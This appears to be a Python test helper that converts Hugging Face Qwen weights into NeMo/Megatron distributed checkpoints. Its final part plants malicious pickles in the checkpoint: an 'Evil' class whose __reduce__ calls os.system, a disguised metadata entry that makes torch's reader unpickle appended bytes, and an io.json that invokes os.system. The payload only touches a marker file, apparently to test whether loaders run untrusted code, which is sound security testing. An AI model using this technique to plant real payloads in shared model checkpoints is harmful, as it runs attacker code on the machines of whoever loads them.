"""NeMo checkpoints put together without NeMo: torch's own writer, and the tensors that Megatron would have."""

import io
import json
import os
import pickle
import shutil
import warnings
from pathlib import Path
from typing import Any

import torch
import torch.distributed.checkpoint as dcp
import yaml
from safetensors.torch import load_file
from torch.distributed.checkpoint.filesystem import _StorageInfo
from torch.distributed.checkpoint.metadata import BytesStorageMetadata, MetadataIndex

from nemo_qwen_hidden import demo
from nemo_qwen_hidden.checkpoint.architecture import read_architecture

_STACKED = {
    "self_attention.linear_qkv.layer_norm_weight": "input_layernorm.weight",
    "mlp.linear_fc1.layer_norm_weight": "post_attention_layernorm.weight",
    "self_attention.linear_proj.weight": "self_attn.o_proj.weight",
    "mlp.linear_fc2.weight": "mlp.down_proj.weight",
}


def stacked(huggingface: Path, *, padding: int = 0) -> dict[str, torch.Tensor]:
    """Megatron's tensors of a Hugging Face folder; ``padding`` rows after the vocabulary."""
    tensors, shape = load_file(huggingface / "model.safetensors"), read_architecture(huggingface).shape

    def of_layer(layer: int) -> dict[str, torch.Tensor]:
        source = f"model.layers.{layer}."
        found = {ours: tensors[source + theirs] for ours, theirs in _STACKED.items()}
        for kind in ("weight", "bias"):
            parts = [tensors[f"{source}self_attn.{name}_proj.{kind}"] for name in "qkv"]
            groups = [part.unflatten(0, (shape.num_query_groups, -1)) for part in parts]
            found[f"self_attention.linear_qkv.{kind}"] = torch.cat(groups, dim=1).flatten(0, 1)
        halves = [tensors[f"{source}mlp.{name}_proj.weight"] for name in ("gate", "up")]
        return {**found, "mlp.linear_fc1.weight": torch.cat(halves)}

    layers = [of_layer(layer) for layer in range(shape.num_layers)]
    result = {f"decoder.layers.{name}": torch.stack([layer[name] for layer in layers]) for name in layers[0]}
    embedding = tensors["model.embed_tokens.weight"]
    extra = torch.ones(padding, shape.hidden_size, dtype=embedding.dtype)
    result["embedding.word_embeddings.weight"] = torch.cat([embedding, extra])
    result["output_layer.weight"] = torch.cat([tensors.get("lm_head.weight", embedding), extra])
    result["decoder.final_layernorm.weight"] = tensors["model.norm.weight"]
    return result


def save_distributed(tensors: dict[str, torch.Tensor], folder: Path) -> None:
    """A folder in torch's distributed format, marked as Megatron marks it."""
    with warnings.catch_warnings():
        warnings.filterwarnings("ignore", "torch.distributed is disabled")  # that is what is meant
        dcp.save(tensors, checkpoint_id=str(folder), no_dist=True)
    (folder / "metadata.json").write_text(json.dumps({"sharded_backend": "torch_dist"}))


def craft(
    huggingface: Path,
    to: Path,
    *,
    tensors: dict[str, torch.Tensor] | None = None,
    apart: bool = False,
    prefix: str = "module.",
    padding: int = 0,
) -> Path:
    """A checkpoint folder. apart: each layer with names of its own."""
    found = stacked(huggingface, padding=padding) if tensors is None else tensors
    if apart:
        layers = {name: value for name, value in found.items() if name.startswith("decoder.layers.")}
        found = {name: value for name, value in found.items() if name not in layers}
        for name, value in layers.items():
            rest = name.removeprefix("decoder.layers.")
            found |= {f"decoder.layers.{layer}.{rest}": part for layer, part in enumerate(value)}
    state = {prefix + name: value.clone() for name, value in found.items()}
    save_distributed({**state, "optimizer.state.step": torch.ones(1)}, to / "weights")
    (to / "context" / "nemo_tokenizer").mkdir(parents=True)
    for name in ("tokenizer.json", "tokenizer_config.json"):
        shutil.copy(demo.model_folder() / name, to / "context" / "nemo_tokenizer")
    (to / "context" / "model.yaml").write_text(yaml.safe_dump(_context(huggingface)))
    return to


def _context(huggingface: Path) -> dict[str, object]:
    architecture = read_architecture(huggingface)
    shape = architecture.shape
    return {
        "_target_": "nemo.collections.llm.gpt.model.qwen2.Qwen2Model",
        "config": {
            "_target_": "nemo.collections.llm.gpt.model.qwen2.Qwen2Config",
            "num_layers": shape.num_layers,
            "hidden_size": shape.hidden_size,
            "ffn_hidden_size": shape.ffn_hidden_size,
            "num_attention_heads": shape.num_heads,
            "num_query_groups": shape.num_query_groups,
            "kv_channels": None,
            "vocab_size": shape.vocab_size,
            "seq_length": architecture.max_positions,
            "layernorm_epsilon": architecture.norm_epsilon,
            "rotary_base": architecture.rotary_base,
            "share_embeddings_and_output_weights": False,
            "normalization": "RMSNorm",
            "activation_func": {"_call_": False, "_target_": "torch.nn.functional.silu"},
            "gated_linear_unit": True,
            "add_bias_linear": False,
            "add_qkv_bias": True,
            "position_embedding_type": "rope",
            "qk_layernorm": False,
            "num_moe_experts": None,
            "window_size": None,
            "seq_len_interpolation_factor": None,
        },
        "model_transform": None,
        "tokenizer": {
            "_target_": "nemo.collections.common.tokenizers.huggingface.auto_tokenizer.AutoTokenizer",
            "pretrained_model_name": "nemo_tokenizer",
        },
    }


class Evil:
    """A pickle that makes a file, were it loaded as one."""

    def __init__(self, file: Path) -> None:
        self.file = file

    def __reduce__(self) -> tuple[Any, ...]:
        return os.system, (f"touch '{self.file}'",)


def append_evil(weights: Path, executed: Path) -> _StorageInfo:
    """Where in the file of tensors a pickle then is that makes the file ``executed``."""
    evil = io.BytesIO()
    torch.save(Evil(executed), evil)
    (data,) = weights.glob("*.distcp")
    place = _StorageInfo(data.name, data.stat().st_size, len(evil.getvalue()))
    data.write_bytes(data.read_bytes() + evil.getvalue())
    return place


def make_hostile(nemo: Path, executed: Path) -> str:
    """Puts pickles that make the file ``executed`` wherever torch, Megatron or NeMo unpickle something of a checkpoint;
    returns the name of a tensor that torch's reader takes for such a one.

    ``.metadata`` names nothing but classes of torch's format: an instance of the class of tensors is given another
    class by the state of its slots, so that its bytes are an object's.
    """
    weights = nemo / "weights"
    metadata = pickle.loads((weights / ".metadata").read_bytes())
    name = next(each for each in metadata.state_dict_metadata if each.endswith("final_layernorm.weight"))
    disguised = metadata.state_dict_metadata[name]
    metadata.storage_data[MetadataIndex(name)] = append_evil(weights, executed)

    class Pickler(pickle._Pickler):  # type: ignore[name-defined]
        def save(self, obj: object, save_persistent_id: bool = True) -> None:
            super().save(obj, save_persistent_id)
            if obj is disguised and obj.__dict__:
                super().save((None, {"__class__": BytesStorageMetadata}))
                self.write(pickle.BUILD)

    with open(weights / ".metadata", "wb") as file:
        Pickler(file, 4).dump(metadata)
    for other in ("common.pt", "__0.metadata"):
        (weights / other).write_bytes(pickle.dumps(Evil(executed)))
    call = {"_target_": "os.system", "_args_": [f"touch '{executed}'"], "_call_": True}
    (nemo / "context" / "io.json").write_text(json.dumps(call))
    return name
